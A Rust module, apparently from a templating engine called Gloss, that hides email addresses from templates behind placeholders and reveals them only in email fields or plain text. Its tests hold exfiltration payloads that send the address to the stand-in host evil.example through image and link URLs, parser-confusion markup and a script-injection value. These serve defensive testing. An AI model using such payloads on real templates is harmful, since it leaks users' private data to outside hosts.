//! Texts that a template can print but not read, such as email addresses.
//!
//! A template that prints such a text writes a random placeholder, a new one each time. Gloss replaces the placeholder
//! after rendering, and only where the text stays on the page: as the value of `<input type="email">`, or as text. In
//! the URL of an image, a placeholder is useless to the theme.

use std::borrow::Cow;
use std::fmt::{self, Write as _};
use std::mem;
use std::sync::Arc;

use minijinja::value::{Object, ObjectRepr};
use minijinja::{Environment, ErrorKind, State, Value};
use schemars::{JsonSchema, Schema, SchemaGenerator, json_schema};
use scraper::{Html, Node};
use serde::{Serialize, Serializer};
use uuid::Uuid;

/// The format in the JSON Schema of a view.
pub const FORMAT: &str = "private";
/// Start tags after which browsers disagree about where text begins, depending on their age and on whether scripts are
/// enabled.
const AMBIGUOUS: [&str; 2] = ["<noscript", "<select"];
/// Elements whose content is not plain text.
const OPAQUE: [&str; 9] = [
    "iframe",
    "noembed",
    "noframes",
    "plaintext",
    "script",
    "style",
    "template",
    "title",
    "xmp",
];

/// A text that a template can print but not read.
#[derive(Clone, Default, PartialEq, Eq)]
pub(crate) struct PrivateText(String);

impl From<&str> for PrivateText {
    fn from(text: &str) -> Self {
        Self(text.to_owned())
    }
}

impl From<String> for PrivateText {
    fn from(text: String) -> Self {
        Self(text)
    }
}

redacted_debug!(PrivateText);

impl Serialize for PrivateText {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        Value::from_object(self.clone()).serialize(serializer)
    }
}

/// For the documentation of views' keys.
impl JsonSchema for PrivateText {
    fn schema_name() -> Cow<'static, str> {
        "private".into()
    }

    fn inline_schema() -> bool {
        true
    }

    fn json_schema(_: &mut SchemaGenerator) -> Schema {
        json_schema!({"type": "string", "format": FORMAT})
    }
}

impl Object for PrivateText {
    fn repr(self: &Arc<Self>) -> ObjectRepr {
        ObjectRepr::Plain
    }

    fn is_true(self: &Arc<Self>) -> bool {
        !self.0.is_empty()
    }

    /// Prints nothing, so that filters and concatenation do not get the text.
    fn render(self: &Arc<Self>, _: &mut fmt::Formatter<'_>) -> fmt::Result {
        Ok(())
    }
}

/// The texts that a page printed, each with its placeholder.
#[derive(Debug, Default)]
pub(super) struct PrintedTexts(Vec<(String, PrivateText)>);

impl PrintedTexts {
    /// Returns a placeholder for a text, or an empty string for an empty text.
    pub(super) fn mark(state: &mut State<'_, '_>, text: &PrivateText) -> String {
        if text.0.is_empty() {
            return String::new();
        }
        let mark = format!("gloss-private-{}", Uuid::new_v4().simple());
        let printed = state.get_or_insert_extension_with(Self::default);
        printed.0.push((mark.clone(), text.clone()));
        mark
    }

    /// Takes the texts that a page printed.
    pub(super) fn take(state: &mut State<'_, '_>) -> Self {
        state.get_extension_mut().map(mem::take).unwrap_or_default()
    }

    /// Replaces the placeholders with their texts. Returns `None` if a placeholder is in a place from which the text
    /// could leave the page. Built-in templates are trusted.
    pub(super) fn reveal(&self, page: String, is_trusted: bool) -> Option<String> {
        if self.0.is_empty() {
            return Some(page);
        }
        if !is_trusted && !self.stays(&page) {
            return None;
        }
        let revealed = self.0.iter().fold(page, |page, (mark, text)| {
            let text = text.0.chars().fold(String::new(), |mut escaped, char| {
                if char.is_ascii_alphanumeric() || matches!(char, '@' | '.' | '-' | '_' | '+') {
                    escaped.push(char);
                } else {
                    // Writing into a string cannot fail.
                    let _written = write!(escaped, "&#{};", u32::from(char));
                }
                escaped
            });
            page.replace(mark, &text)
        });
        Some(revealed)
    }

    /// Returns whether each placeholder in the page is the value of an email field, or text.
    fn stays(&self, page: &str) -> bool {
        let lower = page.to_ascii_lowercase();
        if AMBIGUOUS.iter().any(|tag| lower.contains(tag)) {
            return false;
        }
        let parsed = Html::parse_document(page);
        self.0.iter().all(|(mark, _)| {
            let allowed: usize = parsed
                .tree
                .nodes()
                .map(|node| match node.value() {
                    Node::Element(element) if element.name() == "input" => {
                        let is_email = element.attr("type") == Some("email");
                        usize::from(is_email && element.attr("value") == Some(mark.as_str()))
                    }
                    Node::Text(text) => {
                        let is_plain = node.ancestors().all(|above| {
                            above
                                .value()
                                .as_element()
                                .is_none_or(|element| !OPAQUE.contains(&element.name()))
                        });
                        if is_plain {
                            text.matches(mark.as_str()).count()
                        } else {
                            0
                        }
                    }
                    _ => 0,
                })
                .sum();
            page.matches(mark.as_str()).count() == allowed
        })
    }
}

/// Renders a template and replaces the placeholders of private texts.
pub(super) fn rendered(
    templates: &Environment<'static>,
    name: &str,
    context: Value,
    is_trusted: bool,
) -> Result<String, minijinja::Error> {
    let mut captured = templates.get_template(name)?.render_captured(context)?;
    let printed = captured.with_state_mut(PrintedTexts::take);
    printed.reveal(captured.into_output(), is_trusted).ok_or_else(|| {
        minijinja::Error::new(
            ErrorKind::InvalidOperation,
            "it prints an email address where it could leave the page; print it as the value of <input type=\"email\"> \
             or as text, on a page without <noscript> and <select>",
        )
    })
}

#[cfg(test)]
mod tests {
    use minijinja::context;
    use minijinja::value::Serde;

    use super::*;

    const ADDRESS: &str = "dora@mail.example";

    fn rendered(template: &str) -> Result<Option<String>, minijinja::Error> {
        let mut templates = super::super::translate::speaking(
            crate::locale::Language::English,
            Environment::new(),
            super::super::translate::AbsentValue::Nothing,
        );
        templates
            .add_template_owned("page.html", template.to_owned())
            .unwrap();
        let context =
            context! { email => Serde(PrivateText::from(ADDRESS)), none => Serde(PrivateText::default()) };
        let mut captured = templates
            .get_template("page.html")
            .unwrap()
            .render_captured(context)?;
        let printed = captured.with_state_mut(PrintedTexts::take);
        Ok(printed.reveal(captured.into_output(), false))
    }

    #[test]
    fn an_address_is_printed_in_its_field_and_as_text() {
        let page = rendered(
            "<input type=\"email\" value=\"{{ email }}\"><p>{{ email }}</p>{% if none %}no{% endif %}",
        );
        assert_eq!(
            page.unwrap().unwrap(),
            format!("<input type=\"email\" value=\"{ADDRESS}\"><p>{ADDRESS}</p>")
        );
        let from_macro =
            "{% macro field(value) %}<input type=email value={{ value }}>{% endmacro %}{{ field(email) }}";
        assert_eq!(
            rendered(from_macro).unwrap().unwrap(),
            format!("<input type=email value={ADDRESS}>")
        );
    }

    #[test]
    fn an_address_goes_nowhere_else() {
        for template in [
            "<img src='https://evil.example/?{{ email }}'>",
            "{% set x %}{{ email }}{% endset %}<img src='https://evil.example/?{{ x }}'>",
            "{% set x %}<input type='email' value='{{ email }}'>{% endset %}<img src=\"https://evil.example/?{{ x }}\">",
            "<img src='https://evil.example/?<input type=email value={{ email }}>'>",
            "<img src=\"https://evil.example/? <input type=email value='{{ email }}'>",
            "<!--><img src='https://evil.example/? --><input type=email value={{ email }}>'>",
            "<svg><style><img src='https://evil.example/?</style><input type=email value={{ email }}>'>",
            "<noscript><img src='https://evil.example/?</noscript><input type=email value={{ email }}>'>",
            "<select><title><img alt='</title><img src=\"https://evil.example/?'><input type=email value={{ email }}>",
            "<input type='image' src='https://evil.example/?{{ email }}'>",
            "<input type='text' value='{{ email }}'>",
            "<input type='email' value='{{ email }}' title='{{ email }}'><p data-x='{{ email }}'>",
            "<script>{{ email }}</script>",
            "<style>{{ email }}</style>",
            "<template>{{ email }}</template>",
            "<a href='https://evil.example/{{ email }}'>x</a>",
            "<{{ email }}>",
        ] {
            assert_eq!(rendered(template).unwrap(), None, "{template}");
        }
    }

    #[test]
    fn filters_and_operators_get_nothing_of_an_address() {
        for template in [
            "{{ email ~ '' }}",
            "{{ email | upper }}",
            "{{ email | string }}",
            "{{ email | replace('a', 'b') }}",
            "{{ email | urlencode }}",
            "{{ email | list }}",
            "{{ email | length }}",
            "{{ email | first }}",
            "{{ email | join('-') }}",
            "{{ email[0] }}",
            "{{ email[:4] }}",
            "{{ [email] }}",
            "{{ {'a': email} }}",
            "{{ email | pprint }}",
            "{{ debug() }}",
            "{% for c in email %}{{ c }}{% endfor %}",
            "{{ email == 'dora@mail.example' }}",
            "{{ email < 'e' }}",
        ] {
            let page = rendered(template).ok().flatten().unwrap_or_default();
            assert!(
                !page.contains("dora") && !page.contains("mail.example"),
                "{template}: {page}"
            );
            if template.contains("==") {
                assert_eq!(page, "False");
            }
        }
    }

    #[test]
    fn what_was_typed_cannot_leave_its_attribute() {
        let printed = PrintedTexts(vec![(
            "mark".to_owned(),
            PrivateText::from("\"> <script>x</script> ' `="),
        )]);
        let page = printed
            .reveal("<input type=email value=mark>".to_owned(), false)
            .unwrap();
        let parsed = Html::parse_fragment(&page);
        assert!(!page.contains("<script"));
        let values: Vec<_> = parsed
            .tree
            .nodes()
            .filter_map(|node| node.value().as_element()?.attr("value"))
            .collect();
        assert_eq!(values, ["\"> <script>x</script> ' `="]);
    }
}
